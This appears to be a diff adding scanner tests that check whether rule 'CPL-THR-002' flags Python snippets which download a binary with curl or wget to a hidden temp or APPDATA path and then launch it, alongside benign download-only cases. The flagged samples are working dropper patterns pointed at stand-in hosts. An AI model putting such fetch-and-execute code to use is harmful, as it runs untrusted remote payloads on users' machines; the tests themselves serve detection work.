@@ -731,3 +731,48 @@ def test_a_downloaded_files_text_bound_to_a_name_and_run_is_a_stage(
 )
 def test_a_name_bound_to_another_files_text_stays_clean(source: str) -> None:
     assert "CPL-THR-002" not in danger(source)
+
+
+# -- blind19: a download saved by curl or wget to a computed path, then started ---------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os, subprocess, tempfile, uuid\n"
+        "dst = os.path.join(tempfile.gettempdir(), '.' + uuid.uuid4().hex)\n"
+        "subprocess.run(['curl', '-sL', 'http://203.0.113.41/x86_64', '-o', dst])\n"
+        "os.chmod(dst, 0o755)\nsubprocess.Popen([dst], start_new_session=True)\n",
+        "import os, subprocess\n"
+        "exe = os.path.join(os.getenv('APPDATA'), 'svc.exe')\n"
+        "cmd = ['wget.exe', '-q', '--output-document', exe, 'https://x.blind19.example/a']\n"
+        "subprocess.call(cmd)\nos.startfile(exe)\n",
+        "import os, subprocess, tempfile, uuid\n"
+        "dst = os.path.join(tempfile.gettempdir(), uuid.uuid4().hex)\n"
+        "os.system(f'curl -sL http://203.0.113.41/x -o {dst}')\nsubprocess.Popen([dst])\n",
+    ],
+    ids=["curl-uuid-path", "wget-appdata-list-name", "curl-shell-fstring"],
+)
+def test_a_download_saved_by_curl_or_wget_and_started_is_a_downloaded_stage(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-002" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the download is read as data, not started
+        "import json, os, subprocess, tempfile\n"
+        "dst = os.path.join(tempfile.gettempdir(), 'index.json')\n"
+        "subprocess.run(['curl', '-sL', 'https://pypi.org/simple/', '-o', dst])\n"
+        "print(json.load(open(dst)))\n",
+        # curl -O keeps the URL's name: the word after it is the URL, not a path
+        "import subprocess\nsubprocess.run(['curl', '-O', 'https://example.org/tool.tar.gz'])\n"
+        "subprocess.run(['tar', 'xf', 'tool.tar.gz'])\n",
+    ],
+    ids=["read-not-run", "curl-remote-name"],
+)
+def test_a_download_saved_by_curl_and_not_started_is_clean(source: str) -> None:
+    assert "CPL-THR-002" not in anywhere(source)
